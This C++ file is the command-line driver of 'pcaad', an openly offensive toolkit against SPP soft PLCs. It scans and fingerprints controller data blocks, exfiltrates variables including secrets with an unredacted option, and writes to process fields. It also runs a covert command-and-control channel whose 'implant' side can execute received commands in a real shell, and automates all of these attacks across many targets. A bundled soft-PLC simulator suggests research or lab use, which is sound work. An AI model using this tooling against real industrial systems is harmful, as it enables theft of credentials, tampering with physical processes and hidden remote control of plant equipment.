// pcaad: scan, enumerate and exercise SPP soft PLCs from the command line.

#include "pcaad/catalog.hpp"
#include "pcaad/covert.hpp"
#include "pcaad/enumerate.hpp"
#include "pcaad/errors.hpp"
#include "pcaad/exploit.hpp"
#include "pcaad/pipeline.hpp"
#include "pcaad/softplc/server.hpp"

#include "CLI11.hpp"

#include <atomic>
#include <chrono>
#include <csignal>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <mutex>
#include <sstream>
#include <thread>

using namespace pcaad;

namespace {

// exit codes: 0 ok, 1 usage/config, 2 connectivity, 3 nothing enumerated,
// 4 attack failed
constexpr int kExitUsage = 1;
constexpr int kExitConnect = 2;
constexpr int kExitEmpty = 3;
constexpr int kExitAttack = 4;

int g_log_level = 1; // 0 quiet, 1 info, 2 debug

void log_info(const std::string& msg) {
    if (g_log_level >= 1) std::cerr << "pcaad: " << msg << "\n";
}

void log_debug(const std::string& msg) {
    if (g_log_level >= 2) std::cerr << "pcaad[debug]: " << msg << "\n";
}

int exit_code_for(const Error& e) {
    switch (e.code()) {
    case ErrorCode::ConnectionFailed:
    case ErrorCode::Timeout: return kExitConnect;
    case ErrorCode::ConfigInvalid:
    case ErrorCode::MalformedAddress:
    case ErrorCode::BitRangeError:
    case ErrorCode::FieldUnknown:
    case ErrorCode::DuplicateFbName:
    case ErrorCode::DuplicateField: return kExitUsage;
    default: return kExitAttack;
    }
}

void write_file(const std::string& path, const std::string& text) {
    std::ofstream out(path, std::ios::binary);
    if (!out) throw Error(ErrorCode::ConfigInvalid, "cannot write " + path);
    out << text;
}

SignatureSet load_sigs_or_default(std::string path) {
    if (path.empty())
        if (const char* env = std::getenv("PCAAD_SIGS")) path = env;
    if (path.empty()) return build_signature_set(builtin_catalog());
    log_debug("signatures from " + path);
    return load_signature_set(path);
}

Catalog load_catalog_or_default(const std::string& path) {
    if (path.empty()) return builtin_catalog();
    return load_catalog(path);
}

std::vector<std::string> split_list(const std::string& text, char sep) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string item; std::getline(in, item, sep);)
        if (!item.empty()) out.push_back(item);
    return out;
}

volatile std::sig_atomic_t g_stop = 0;
void on_signal(int) { g_stop = 1; }

// ---------------------------------------------------------------- serve

int cmd_serve(const std::string& config_path, const std::string& host_override,
              int port_override, const std::string& event_log_path) {
    softplc::PlcConfig cfg = softplc::load_config(config_path);
    if (!host_override.empty()) cfg.listen_host = host_override;
    if (port_override >= 0) cfg.listen_port = static_cast<std::uint16_t>(port_override);

    softplc::SppServer server(std::move(cfg));
    server.start();
    const auto& c = server.plc().config();
    std::cout << "listening on " << c.listen_host << ":" << server.port() << "\n";
    std::cout << c.instances.size() << " fb instance(s), " << c.global_dbs.size()
              << " global block(s), cycle " << c.cycle_time_ms << " ms\n"
              << std::flush;

    std::signal(SIGINT, on_signal);
    std::signal(SIGTERM, on_signal);
    while (!g_stop) std::this_thread::sleep_for(std::chrono::milliseconds(50));

    server.stop();
    if (!event_log_path.empty()) write_file(event_log_path, server.event_log().to_jsonl());
    log_info("served " + std::to_string(server.event_log().size()) + " request(s)");
    return 0;
}

// ----------------------------------------------------------------- sigs

int cmd_sigs_build(const std::string& catalog_path, const std::string& out_path) {
    const SignatureSet set = build_signature_set(load_catalog_or_default(catalog_path));
    const std::string text = signature_set_to_json(set);
    if (out_path.empty()) std::cout << text;
    else {
        write_file(out_path, text);
        log_info(std::to_string(set.entries.size()) + " signature(s) -> " + out_path);
    }
    return 0;
}

int cmd_sigs_import(const std::string& base_path, const std::string& extra_path,
                    const std::string& out_path) {
    const SignatureSet merged =
        merge_signature_sets(load_signature_set(base_path), load_signature_set(extra_path));
    const std::string text = signature_set_to_json(merged);
    if (out_path.empty()) std::cout << text;
    else {
        write_file(out_path, text);
        log_info(std::to_string(merged.entries.size()) + " signature(s) -> " + out_path);
    }
    return 0;
}

// ----------------------------------------------------------------- scan

int cmd_scan(const std::string& targets_text, std::uint16_t probe_limit, int timeout_ms) {
    const auto targets = split_list(targets_text, ',');
    bool found_any = false;
    for (const std::string& target : targets) {
        spp::SppClient client = spp::SppClient::connect(target, timeout_ms);
        const auto dbs = discover_by_probe(client, probe_limit);
        std::cout << target << ": " << dbs.size() << " data block(s)\n";
        for (const std::uint16_t db : dbs) {
            const Bytes content = fetch_block_content(client, db);
            std::cout << "  DB" << db << "  " << content.size() << " bytes\n";
            found_any = true;
        }
    }
    return found_any ? 0 : kExitEmpty;
}

// ----------------------------------------------------------------- enum

void print_scan_report(const ScanReport& report) {
    int identified = 0, ambiguous = 0, unknown = 0;
    for (const BlockFinding& f : report.findings) {
        std::cout << "DB" << f.db << "  " << f.size << " bytes  " << verdict_name(f.verdict);
        if (f.verdict == Verdict::Identified) {
            ++identified;
            std::cout << "  " << f.candidates.front();
            if (!f.family.empty()) std::cout << " (family " << f.family << ", header " << f.header << ")";
        } else if (f.verdict == Verdict::Ambiguous) {
            ++ambiguous;
            std::cout << "  candidates:";
            for (const auto& c : f.candidates) std::cout << " " << c;
        } else {
            ++unknown;
            if (f.provisional) std::cout << "  provisional " << f.provisional->fb_name;
        }
        std::cout << "\n";
    }
    std::cout << identified << " identified, " << ambiguous << " ambiguous, " << unknown
              << " unknown; " << report.requests << " request(s)\n";
}

int cmd_enum(const std::string& target, const std::string& method_text,
             const std::string& sigs_path, std::uint16_t probe_limit,
             const std::string& json_path, int timeout_ms) {
    const SignatureSet sigs = load_sigs_or_default(sigs_path);
    spp::SppClient client = spp::SppClient::connect(target, timeout_ms);

    ScanOptions options;
    options.method = parse_scan_method(method_text);
    options.probe_limit = probe_limit;
    ScanReport report = scan(client, sigs, options);
    report.target = target;

    if (report.findings.empty()) {
        std::cerr << "pcaad: no data blocks enumerated on " << target << "\n";
        return kExitEmpty;
    }
    if (!json_path.empty()) write_file(json_path, scan_report_to_json(report));
    else print_scan_report(report);
    return 0;
}

// ---------------------------------------------------------------- exfil

// Returns the FB name and instance DB to aim at, scanning when needed.
std::pair<std::string, std::uint16_t> resolve_instance(spp::SppClient& client,
                                                       const SignatureSet& sigs,
                                                       const std::string& fb_name,
                                                       int db_flag,
                                                       std::uint16_t probe_limit) {
    if (db_flag >= 0 && !fb_name.empty())
        return {fb_name, static_cast<std::uint16_t>(db_flag)};
    if (db_flag >= 0) {
        const auto db = static_cast<std::uint16_t>(db_flag);
        const BlockFinding f = classify_content(sigs, db, fetch_block_content(client, db));
        if (f.verdict != Verdict::Identified)
            throw Error(ErrorCode::NoSuchTarget,
                        "DB" + std::to_string(db) + " is " + verdict_name(f.verdict) +
                            ", name the FB with --fb to proceed");
        return {f.candidates.front(), db};
    }
    if (fb_name.empty())
        throw Error(ErrorCode::ConfigInvalid, "need --db and/or --fb to pick a target");
    ScanOptions options;
    options.probe_limit = probe_limit;
    for (const BlockFinding& f : scan(client, sigs, options).findings)
        if (f.verdict == Verdict::Identified && f.candidates.front() == fb_name)
            return {fb_name, f.db};
    throw Error(ErrorCode::NoSuchTarget, "no identified " + fb_name + " instance");
}

int cmd_exfil(const std::string& target, const std::string& fb_name, int db_flag,
              const std::string& field, bool show_secrets, const std::string& sigs_path,
              const std::string& catalog_path, std::uint16_t probe_limit,
              const std::string& json_path, int timeout_ms) {
    const SignatureSet sigs = load_sigs_or_default(sigs_path);
    const Catalog catalog = load_catalog_or_default(catalog_path);
    spp::SppClient client = spp::SppClient::connect(target, timeout_ms);

    const auto [name, db] = resolve_instance(client, sigs, fb_name, db_flag, probe_limit);
    const FbDecl* decl = catalog.find(name);
    if (!decl) throw Error(ErrorCode::NoSuchTarget, name + " is not in the catalog");
    const DbLayout layout = compile_layout(*decl);

    const std::vector<ExfilResult> results =
        field.empty() ? exfil_all(client, layout, db)
                      : std::vector<ExfilResult>{exfil_field(client, layout, db, field)};

    if (!json_path.empty()) write_file(json_path, exfil_results_to_json(results, show_secrets));
    std::cout << name << " @ DB" << db << "\n";
    for (const ExfilResult& r : results) {
        const std::string value = spp::field_value_to_string(r.value);
        std::cout << "  " << r.field << " = "
                  << (r.sensitive && !show_secrets ? redact_value(value) : value);
        if (r.resolved)
            std::cout << "  (via DB" << r.resolved->db << "@" << r.resolved->byte_offset() << ")";
        std::cout << "\n";
    }
    return 0;
}

// ----------------------------------------------------------- manipulate

int cmd_manipulate(const std::string& target, const std::string& fb_name, int db_flag,
                   const std::string& field, const std::string& value_text, int verify_ms,
                   const std::string& sigs_path, const std::string& catalog_path,
                   std::uint16_t probe_limit, int timeout_ms) {
    const SignatureSet sigs = load_sigs_or_default(sigs_path);
    const Catalog catalog = load_catalog_or_default(catalog_path);
    spp::SppClient client = spp::SppClient::connect(target, timeout_ms);

    const auto [name, db] = resolve_instance(client, sigs, fb_name, db_flag, probe_limit);
    const FbDecl* decl = catalog.find(name);
    if (!decl) throw Error(ErrorCode::NoSuchTarget, name + " is not in the catalog");
    const DbLayout layout = compile_layout(*decl);

    const spp::FieldValue value = parse_literal_text(layout.at(field).elem, value_text);
    const WriteOutcome outcome = manipulate_write(client, layout, db, field, value, verify_ms);

    std::cout << name << " @ DB" << db << " " << field << ": " << outcome.before << " -> "
              << outcome.requested << ", observed " << outcome.observed << " after "
              << outcome.waited_ms << " ms: " << write_verdict_name(outcome.verdict) << "\n";
    if (!outcome.note.empty()) std::cout << "  " << outcome.note << "\n";
    return outcome.verdict == WriteVerdict::Rejected ? kExitAttack : 0;
}

// ------------------------------------------------------------------- c2

ChannelSpec resolve_channel(spp::SppClient& client, const SignatureSet& sigs,
                            const Catalog& catalog, int db, int sync_off, int data_off,
                            int poll_ms, std::uint16_t probe_limit) {
    ChannelSpec spec;
    if (db >= 0) {
        if (sync_off < 0 || data_off < 0)
            throw Error(ErrorCode::ConfigInvalid, "--db needs --sync and --data");
        spec.db = static_cast<std::uint16_t>(db);
        spec.sync_offset = static_cast<std::uint16_t>(sync_off);
        spec.data_offset = static_cast<std::uint16_t>(data_off);
    } else {
        ScanOptions options;
        options.probe_limit = probe_limit;
        const ScanReport report = scan(client, sigs, options);
        std::vector<DbLayout> layouts;
        for (const FbDecl& d : catalog.decls) layouts.push_back(compile_layout(d));
        spec = select_channel(report.findings, layouts);
    }
    spec.poll_interval_ms = poll_ms;
    return spec;
}

int cmd_c2(bool server_side, const std::string& target, int db, int sync_off, int data_off,
           int poll_ms, const std::string& transcript_path, bool unsafe_executor,
           int max_commands, const std::string& sigs_path, const std::string& catalog_path,
           std::uint16_t probe_limit, int timeout_ms) {
    const SignatureSet sigs = load_sigs_or_default(sigs_path);
    const Catalog catalog = load_catalog_or_default(catalog_path);
    spp::SppClient client = spp::SppClient::connect(target, timeout_ms);

    const ChannelSpec spec =
        resolve_channel(client, sigs, catalog, db, sync_off, data_off, poll_ms, probe_limit);
    std::cout << "channel: DB" << spec.db << " sync@" << spec.sync_offset << " data@"
              << spec.data_offset;
    if (!spec.fb_name.empty()) std::cout << " (" << spec.fb_name << ")";
    std::cout << ", poll " << spec.poll_interval_ms << " ms\n" << std::flush;

    Transcript transcript;
    Transcript* tr = transcript_path.empty() ? nullptr : &transcript;
    ChannelEndpoint endpoint(client, spec, server_side ? Role::Server : Role::Client, tr);

    C2Options options;
    options.max_commands = max_commands;
    int served = 0;
    try {
        if (server_side) {
            StdioConsole console;
            served = run_c2_server(endpoint, console, options);
        } else {
            SafeExecutor safe;
            UnsafeExecutor unsafe;
            if (unsafe_executor)
                std::cerr << "WARNING: commands from the channel now run in a real shell\n";
            CommandExecutor& executor =
                unsafe_executor ? static_cast<CommandExecutor&>(unsafe) : safe;
            served = run_c2_client(endpoint, executor, options);
        }
    } catch (const Error& e) {
        if (!transcript_path.empty()) transcript.save(transcript_path);
        if (e.code() == ErrorCode::ConnectionFailed && served == 0) {
            log_info(std::string("session ended: ") + e.what());
            return 0;
        }
        throw;
    }
    if (!transcript_path.empty()) transcript.save(transcript_path);
    log_info(std::to_string(served) + " command(s) exchanged");
    return 0;
}

// ----------------------------------------------------------------- auto

void print_run_report(const RunReport& report) {
    std::cout << "==> " << report.target << "\n";
    if (!report.error.empty()) {
        std::cout << "[error] " << report.error << "\n";
        return;
    }
    int identified = 0, unknown = 0, ambiguous = 0;
    for (const BlockFinding& f : report.scan.findings) {
        if (f.verdict == Verdict::Identified) ++identified;
        else if (f.verdict == Verdict::Ambiguous) ++ambiguous;
        else ++unknown;
    }
    std::cout << "[data_retrieval] method " << scan_method_name(report.scan.method) << ": "
              << report.scan.findings.size() << " block(s), " << report.scan.requests
              << " request(s)\n";
    std::cout << "[vb_determination] identified " << identified << ", ambiguous " << ambiguous
              << ", unknown " << unknown << "\n";
    std::cout << "[attack_selection] " << report.plan.size() << " applicable\n";
    for (const AttackPlanItem& p : report.plan)
        std::cout << "    DB" << p.db << " " << p.fb_name << " " << attack_kind_name(p.kind)
                  << ": " << p.detail << "\n";
    if (report.dry_run) std::cout << "[execution] dry run, nothing executed\n";
    else if (report.outcomes.empty()) std::cout << "[execution] skipped (no --attacks)\n";
    else {
        int ok = 0;
        for (const AttackOutcome& o : report.outcomes) ok += o.ok ? 1 : 0;
        std::cout << "[execution] " << report.outcomes.size() << " attack(s), " << ok << " ok\n";
        for (const AttackOutcome& o : report.outcomes)
            std::cout << "    DB" << o.db << " " << o.fb_name << " "
                      << attack_kind_name(o.kind) << ": " << o.detail << "\n";
    }
    std::cout << "[report] " << report.enum_non_read_requests
              << " non-read request(s) during enumeration, " << report.write_requests
              << " write(s) total, " << report.elapsed_ms << " ms\n";
}

int cmd_auto(const std::string& targets_text, const std::string& sigs_path,
             const std::string& catalog_path, const std::string& method_text,
             const std::string& attacks_text, bool dry_run, bool show_secrets,
             std::uint16_t probe_limit, int verify_ms, const std::string& json_path,
             int timeout_ms) {
    const SignatureSet sigs = load_sigs_or_default(sigs_path);
    const Catalog catalog = load_catalog_or_default(catalog_path);

    AutoOptions options;
    options.method = parse_scan_method(method_text);
    options.dry_run = dry_run;
    options.probe_limit = probe_limit;
    options.verify_after_ms = verify_ms;
    options.timeout_ms = timeout_ms;
    for (const std::string& a : split_list(attacks_text, ','))
        options.attacks.push_back(parse_attack_kind(a));

    const auto targets = split_list(targets_text, ',');
    if (targets.empty()) throw Error(ErrorCode::ConfigInvalid, "no targets given");

    std::vector<RunReport> reports(targets.size());
    std::vector<std::thread> workers;
    for (std::size_t i = 0; i < targets.size(); ++i)
        workers.emplace_back([&, i] { reports[i] = run_pipeline(targets[i], sigs, catalog, options); });
    for (auto& w : workers) w.join();

    for (const RunReport& r : reports) print_run_report(r);
    if (!json_path.empty()) {
        if (reports.size() == 1) write_file(json_path, run_report_to_json(reports[0], show_secrets));
        else {
            std::string text = "[\n";
            for (std::size_t i = 0; i < reports.size(); ++i) {
                std::string one = run_report_to_json(reports[i], show_secrets);
                if (!one.empty() && one.back() == '\n') one.pop_back();
                text += one;
                text += i + 1 < reports.size() ? ",\n" : "\n";
            }
            text += "]\n";
            write_file(json_path, text);
        }
    }

    int exit_code = 0;
    for (const RunReport& r : reports) {
        if (!r.error.empty()) exit_code = std::max(exit_code, kExitConnect);
        else if (r.scan.findings.empty()) exit_code = std::max(exit_code, kExitEmpty);
        else
            for (const AttackOutcome& o : r.outcomes)
                if (!o.ok) exit_code = std::max(exit_code, kExitAttack);
    }
    return exit_code;
}

} // namespace

int main(int argc, char** argv) {
    CLI::App app{"process comprehension and attack toolkit for SPP soft PLCs"};
    app.require_subcommand(1);
    app.fallthrough(); // global flags like --timeout-ms work after the subcommand too

    std::string log_level = "info";
    app.add_option("--log-level", log_level, "quiet|info|debug")->capture_default_str();

    // serve
    auto* serve = app.add_subcommand("serve", "run the soft PLC from a config file");
    std::string serve_config, serve_host, serve_event_log;
    int serve_port = -1;
    serve->add_option("config", serve_config, "PLC config JSON")->required();
    serve->add_option("--host", serve_host, "listen address override");
    serve->add_option("--port", serve_port, "listen port override (0 picks a free port)");
    serve->add_option("--event-log", serve_event_log, "dump request log JSONL on shutdown");

    // sigs build | import
    auto* sigs = app.add_subcommand("sigs", "signature file maintenance");
    sigs->require_subcommand(1);
    auto* sigs_build = sigs->add_subcommand("build", "derive signatures from an FB catalog");
    std::string sb_catalog, sb_out;
    sigs_build->add_option("--catalog", sb_catalog, "catalog JSON (default: built-in library)");
    sigs_build->add_option("-o,--out", sb_out, "output path (default: stdout)");
    auto* sigs_import = sigs->add_subcommand("import", "merge custom signatures into a base set");
    std::string si_base, si_extra, si_out;
    sigs_import->add_option("--base", si_base, "base signature file")->required();
    sigs_import->add_option("--extra", si_extra, "signatures to merge in")->required();
    sigs_import->add_option("-o,--out", si_out, "output path (default: stdout)");

    int timeout_ms = 3000;
    app.add_option("--timeout-ms", timeout_ms, "connect/request timeout")->capture_default_str();

    // scan
    auto* scan_cmd = app.add_subcommand("scan", "discover data blocks (read-only)");
    std::string scan_targets;
    std::uint16_t scan_probe_limit = 64;
    scan_cmd->add_option("target", scan_targets, "host[:port][,host[:port]...]")->required();
    scan_cmd->add_option("--probe-limit", scan_probe_limit, "highest DB number probed")
        ->capture_default_str();

    // enum
    auto* enum_cmd = app.add_subcommand("enum", "enumerate and identify FB instance blocks");
    std::string enum_target, enum_method = "read", enum_sigs, enum_json;
    std::uint16_t enum_probe_limit = 64;
    enum_cmd->add_option("target", enum_target, "host[:port]")->required();
    enum_cmd->add_option("--method", enum_method, "read|metadata|upload")->capture_default_str();
    enum_cmd->add_option("--sigs", enum_sigs, "signature file (default: $PCAAD_SIGS or built-in)");
    enum_cmd->add_option("--probe-limit", enum_probe_limit, "highest DB number probed")
        ->capture_default_str();
    enum_cmd->add_option("--json", enum_json, "write the report as JSON to this path");

    // exfil
    auto* exfil_cmd = app.add_subcommand("exfil", "read variables out of an FB instance");
    std::string exfil_target, exfil_fb, exfil_field, exfil_sigs, exfil_catalog, exfil_json;
    int exfil_db = -1;
    bool exfil_show_secrets = false;
    std::uint16_t exfil_probe_limit = 64;
    exfil_cmd->add_option("target", exfil_target)->required();
    exfil_cmd->add_option("--fb", exfil_fb, "FB name, e.g. AS_MAIL");
    exfil_cmd->add_option("--db", exfil_db, "instance DB number");
    exfil_cmd->add_option("--field", exfil_field, "single field (default: all fields)");
    exfil_cmd->add_flag("--show-secrets", exfil_show_secrets, "print string payloads unredacted");
    exfil_cmd->add_option("--sigs", exfil_sigs);
    exfil_cmd->add_option("--catalog", exfil_catalog);
    exfil_cmd->add_option("--probe-limit", exfil_probe_limit)->capture_default_str();
    exfil_cmd->add_option("--json", exfil_json, "write results as JSON to this path");

    // manipulate
    auto* manip_cmd = app.add_subcommand("manipulate", "write one field and classify the result");
    std::string manip_target, manip_fb, manip_field, manip_value, manip_sigs, manip_catalog;
    int manip_db = -1, manip_verify = 30;
    std::uint16_t manip_probe_limit = 64;
    manip_cmd->add_option("target", manip_target)->required();
    manip_cmd->add_option("--fb", manip_fb, "FB name");
    manip_cmd->add_option("--db", manip_db, "instance DB number");
    manip_cmd->add_option("--field", manip_field)->required();
    manip_cmd->add_option("--value", manip_value)->required();
    manip_cmd->add_option("--verify-ms", manip_verify, "read-back delay (>= 2 cycle times)")
        ->capture_default_str();
    manip_cmd->add_option("--sigs", manip_sigs);
    manip_cmd->add_option("--catalog", manip_catalog);
    manip_cmd->add_option("--probe-limit", manip_probe_limit)->capture_default_str();

    // c2 server | client
    auto* c2 = app.add_subcommand("c2", "covert channel through a block's null bytes");
    c2->require_subcommand(1);
    std::string c2_target, c2_transcript, c2_sigs, c2_catalog;
    int c2_db = -1, c2_sync = -1, c2_data = -1, c2_poll = 200, c2_max = 0;
    bool c2_unsafe = false;
    std::uint16_t c2_probe_limit = 64;
    auto add_c2_common = [&](CLI::App* side) {
        side->add_option("target", c2_target)->required();
        side->add_option("--db", c2_db, "channel DB (skips enumeration)");
        side->add_option("--sync", c2_sync, "sync byte offset");
        side->add_option("--data", c2_data, "data byte offset");
        side->add_option("--poll-ms", c2_poll, "poll interval")->capture_default_str();
        side->add_option("--transcript", c2_transcript, "write channel transcript JSONL");
        side->add_option("--max-commands", c2_max, "stop after N commands (0: no limit)");
        side->add_option("--sigs", c2_sigs);
        side->add_option("--catalog", c2_catalog);
        side->add_option("--probe-limit", c2_probe_limit)->capture_default_str();
    };
    auto* c2_server = c2->add_subcommand("server", "operator side: type commands, see output");
    add_c2_common(c2_server);
    auto* c2_client = c2->add_subcommand("client", "implant side: execute received commands");
    add_c2_common(c2_client);
    c2_client->add_flag("--unsafe-executor", c2_unsafe,
                        "run received commands in a real shell instead of the whitelist");

    // auto
    auto* auto_cmd = app.add_subcommand("auto", "enumerate, plan and optionally attack");
    std::string auto_targets, auto_sigs, auto_catalog, auto_method = "read", auto_attacks,
                auto_json;
    bool auto_dry = false, auto_show_secrets = false;
    std::uint16_t auto_probe_limit = 64;
    int auto_verify = 30;
    auto_cmd->add_option("target", auto_targets, "host[:port][,more...]")->required();
    auto_cmd->add_option("--sigs", auto_sigs);
    auto_cmd->add_option("--catalog", auto_catalog);
    auto_cmd->add_option("--method", auto_method, "read|metadata|upload")->capture_default_str();
    auto_cmd->add_option("--attacks", auto_attacks, "comma list of exfil,manipulate,c2");
    auto_cmd->add_flag("--dry-run", auto_dry, "plan only, never write");
    auto_cmd->add_flag("--show-secrets", auto_show_secrets);
    auto_cmd->add_option("--probe-limit", auto_probe_limit)->capture_default_str();
    auto_cmd->add_option("--verify-ms", auto_verify)->capture_default_str();
    auto_cmd->add_option("--json", auto_json, "write the run report(s) as JSON");

    try {
        app.parse(argc, argv);
    } catch (const CLI::ParseError& e) {
        const int rc = app.exit(e);
        return rc == 0 ? 0 : kExitUsage;
    }

    if (log_level == "quiet") g_log_level = 0;
    else if (log_level == "debug") g_log_level = 2;
    else g_log_level = 1;

    try {
        if (serve->parsed())
            return cmd_serve(serve_config, serve_host, serve_port, serve_event_log);
        if (sigs_build->parsed()) return cmd_sigs_build(sb_catalog, sb_out);
        if (sigs_import->parsed()) return cmd_sigs_import(si_base, si_extra, si_out);
        if (scan_cmd->parsed()) return cmd_scan(scan_targets, scan_probe_limit, timeout_ms);
        if (enum_cmd->parsed())
            return cmd_enum(enum_target, enum_method, enum_sigs, enum_probe_limit, enum_json,
                            timeout_ms);
        if (exfil_cmd->parsed())
            return cmd_exfil(exfil_target, exfil_fb, exfil_db, exfil_field, exfil_show_secrets,
                             exfil_sigs, exfil_catalog, exfil_probe_limit, exfil_json,
                             timeout_ms);
        if (manip_cmd->parsed())
            return cmd_manipulate(manip_target, manip_fb, manip_db, manip_field, manip_value,
                                  manip_verify, manip_sigs, manip_catalog, manip_probe_limit,
                                  timeout_ms);
        if (c2_server->parsed() || c2_client->parsed())
            return cmd_c2(c2_server->parsed(), c2_target, c2_db, c2_sync, c2_data, c2_poll,
                          c2_transcript, c2_unsafe, c2_max, c2_sigs, c2_catalog,
                          c2_probe_limit, timeout_ms);
        if (auto_cmd->parsed())
            return cmd_auto(auto_targets, auto_sigs, auto_catalog, auto_method, auto_attacks,
                            auto_dry, auto_show_secrets, auto_probe_limit, auto_verify,
                            auto_json, timeout_ms);
    } catch (const Error& e) {
        std::cerr << "pcaad: " << e.what() << "\n";
        return exit_code_for(e);
    } catch (const std::exception& e) {
        std::cerr << "pcaad: " << e.what() << "\n";
        return kExitAttack;
    }
    return kExitUsage;
}
